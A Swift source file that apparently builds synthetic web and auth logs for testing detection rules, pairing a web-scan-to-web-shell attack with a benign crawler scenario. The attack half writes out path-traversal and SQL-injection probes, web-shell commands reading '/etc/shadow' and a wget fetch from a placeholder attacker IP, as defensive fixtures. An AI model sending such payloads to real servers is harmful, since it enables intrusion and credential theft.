import VedetteEvent

extension Scenario {
  /// A scan, a guessed password, an uploaded script and commands through it.
  static let webShell = Scenario(
    name: "web-shell",
    title: "Web scan that ends in a web shell",
    isBenign: false,
    content: WebShell.attack
  )

  /// A crawler, uploads by the staff and a reload by the web server's user.
  static let webShellBenign = Scenario(
    name: "web-shell-benign",
    title: "A crawler and uploads by the staff",
    isBenign: true,
    content: WebShell.ordinary
  )
}

/// Two and three quarter hours of a shop.
enum WebShell {
  private static let first = EventTime.at(8, 0)
  private static let last = EventTime.at(10, 45)
  private static let intruder = "203.0.113.77"

  static func attack(seed: UInt64) -> ScenarioContent {
    var web = AccessLog()
    WebVisitors(first: first, last: last, visits: 170).write(to: &web, seed: seed)
    var hosts = background(seed: seed)
    let start = EventTime.at(9, 48, 11)
    writeScan(to: &web, seed: seed, from: start)
    writeLoginGuesses(to: &web, seed: seed, from: .at(10, 2, 4))
    let end = writeShell(to: &web, seed: seed, from: .at(10, 8, 30))
    for (index, command) in ["/bin/bash", "/bin/sh", "/usr/bin/cat /etc/shadow"].enumerated() {
      let time = EventTime.at(10, 17, 5 + index * 41)
      hosts.refusedSudo(command, by: "www-data", on: "web01", at: time)
    }
    let label = AttackLabel(
      attack: "web-shell-1",
      kind: "web scan to web shell",
      first: start,
      last: end.wholeSecond,
      entities: [
        LabelledEntity(type: "ip", value: intruder),
        LabelledEntity(type: "user", value: "www-data"),
        LabelledEntity(type: "host", value: "web01"),
      ],
      severityMin: "high"
    )
    return ScenarioContent(
      logs: logs(web, hosts),
      labels: [label],
      incidents: 1...3,
      rules: [.contentDiscovery, .webLoginBruteForce, .webShellUploaded, .commandParameter],
      story: """
        \(intruder) looks for hidden pages from 09:48, tries SQL injection and path traversal, guesses
        the password of the administration pages from 10:02, uploads a script at 10:08 and runs
        commands through it until 10:26. The commands try sudo as www-data, which is refused.
        Around it: visitors, monitoring and the staff.
        """
    )
  }

  static func ordinary(seed: UInt64) -> ScenarioContent {
    var web = AccessLog()
    WebVisitors(first: first, last: last, visits: 170).write(to: &web, seed: seed)
    var hosts = background(seed: seed)
    writeCrawler(to: &web, seed: seed)
    writeUploads(to: &web, seed: seed)
    for minute in [5, 25, 45] {
      hosts.sudo(
        "/usr/sbin/service php-fpm reload",
        by: "www-data",
        on: "web01",
        at: .at(9, minute)
      )
    }
    return ScenarioContent(
      logs: logs(web, hosts),
      labels: [],
      incidents: 0...0,
      rules: [],
      story: """
        A crawler reads the whole shop as fast as the scan of the attack does and meets some dead
        links. The staff logs in, mistypes twice, and uploads pictures. The web server's user reloads
        its service through sudo, as it may. Searches hold words that SQL has too.
        """
    )
  }

  private static func logs(_ web: AccessLog, _ hosts: AuthLog) -> [ScenarioLog] {
    [
      ScenarioLog(
        path: "access.log",
        format: "access",
        summary: "nginx in front of the shop, combined form",
        bytes: web.bytes
      ),
      ScenarioLog(
        path: "auth.log",
        format: "syslog",
        summary: "sudo, sshd and cron of the web server, RFC 3164",
        bytes: hosts.bytes
      ),
    ]
  }

  private static func background(seed: UInt64) -> AuthLog {
    var log = AuthLog(chance: Chance(seed: seed, stream: "auth.log"))
    HostLife(hosts: ["web01"], first: first, last: last).write(to: &log, seed: seed)
    return log
  }

  private static func writeScan(to log: inout AccessLog, seed: UInt64, from start: EventTime) {
    var chance = Chance(seed: seed, stream: "scan")
    let client = WebClient(
      address: intruder,
      agent: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"
    )
    let words = [
      "admin", "backup", "old", "test", "dev", "phpmyadmin", "api", "config", "db", "dump",
      "console", "manager", "private", "staging", "tmp", "wp-admin", "xmlrpc", "cgi-bin",
    ]
    let endings = [
      "", "/", ".php", ".bak", ".zip", ".sql", ".old", ".txt", ".tar.gz", "/index.php",
    ]
    var time = start
    for _ in 0..<230 {
      let target = "/\(chance.pick(words))\(chance.pick(endings))"
      log.add(WebRequest(target: target, status: 404, bytes: 162), by: client, at: time)
      time = time.plus(milliseconds: chance.integer(in: 700...2_100))
    }
    let tries: [(target: String, status: Int)] = [
      ("/.env", 404), ("/.git/config", 200), ("/static/..%2f..%2f..%2fetc%2fpasswd", 400),
      ("/download?file=../../../../etc/passwd", 200),
      ("/products/12?sort=1%27%20or%20%271%27=%271", 500),
      ("/search?q=1%27+UNION+SELECT+name,password+FROM+users--", 403),
      ("/search?q=1;SELECT+pg_sleep(5)", 500),
    ]
    for attempt in tries {
      let request = WebRequest(target: attempt.target, status: attempt.status, bytes: 274)
      log.add(request, by: client, at: time)
      time = time.plus(seconds: chance.integer(in: 3...9))
    }
  }

  private static func writeLoginGuesses(
    to log: inout AccessLog,
    seed: UInt64,
    from start: EventTime
  ) {
    var chance = Chance(seed: seed, stream: "web guesses")
    let client = WebClient(address: intruder, agent: "python-requests/2.31.0")
    var time = start
    for _ in 0..<28 {
      let request = WebRequest(method: "POST", target: "/admin/login", status: 401, bytes: 512)
      log.add(request, by: client, at: time)
      time = time.plus(seconds: chance.integer(in: 4...9))
    }
    let request = WebRequest(method: "POST", target: "/admin/login", status: 302, bytes: 0)
    log.add(request, by: client, at: time)
  }

  /// Writes the upload and the commands and returns the time of the last.
  private static func writeShell(
    to log: inout AccessLog,
    seed: UInt64,
    from start: EventTime
  ) -> EventTime {
    var chance = Chance(seed: seed, stream: "shell")
    let client = WebClient(address: intruder, agent: People.browsers[1])
    let upload = WebRequest(method: "POST", target: "/admin/media/upload", status: 302, bytes: 0)
    log.add(upload, by: client, at: start)
    let script = "/uploads/2026/03/thumb.php"
    log.add(
      WebRequest(method: "POST", target: script, bytes: 44),
      by: client,
      at: start.plus(seconds: 21)
    )
    let commands = [
      "id", "whoami", "uname+-a", "ls+-la", "cat+/etc/passwd", "pwd", "ps+aux", "ip+addr",
      "sudo+-l", "sudo+/bin/bash", "wget+http://203.0.113.77/p", "ls+/var/www/shop",
    ]
    var time = start.plus(seconds: 60)
    for index in 0..<30 {
      let command = commands[index % commands.count]
      let request = WebRequest(
        target: script + "?cmd=" + command,
        bytes: chance.integer(in: 20...4_000)
      )
      log.add(request, by: client, at: time)
      time = time.plus(seconds: chance.integer(in: 20...48))
    }
    return time
  }

  private static func writeCrawler(to log: inout AccessLog, seed: UInt64) {
    var chance = Chance(seed: seed, stream: "crawler")
    let client = WebClient(
      address: "203.0.113.140",
      agent: "Mozilla/5.0 (compatible; Examplebot/2.1; +https://bot.example.com/)"
    )
    var time = EventTime.at(9, 30, 3)
    for index in 0..<300 {
      let isDead = chance.happens(percent: 7)
      let target =
        isDead ? "/products/\(400 + index)" : "/products/\(index % 180)?page=\(index / 180)"
      let request = WebRequest(
        target: target,
        status: isDead ? 404 : 200,
        bytes: isDead ? 162 : 6_000 + index
      )
      log.add(request, by: client, at: time)
      time = time.plus(milliseconds: chance.integer(in: 700...2_100))
    }
  }

  private static func writeUploads(to log: inout AccessLog, seed: UInt64) {
    var chance = Chance(seed: seed, stream: "uploads")
    let client = WebClient(address: People.office, agent: People.browsers[2])
    for (index, time) in chance.times(24, from: .at(10, 2), to: .at(10, 30)).enumerated() {
      let upload = WebRequest(method: "POST", target: "/admin/media/upload", status: 302, bytes: 0)
      log.add(upload, by: client, at: time)
      let picture = WebRequest(
        target: "/uploads/2026/03/lamp-\(index + 1).jpg",
        bytes: chance.integer(in: 20_000...90_000),
        referrer: "https://shop.example.com/admin/media"
      )
      log.add(picture, by: client, at: time.plus(seconds: 2))
      guard index.isMultiple(of: 3) else { continue }
      let page = WebRequest(target: "/index.php?command=list-media&page=\(index)", bytes: 8_120)
      log.add(page, by: client, at: time.plus(seconds: 6))
    }
  }
}
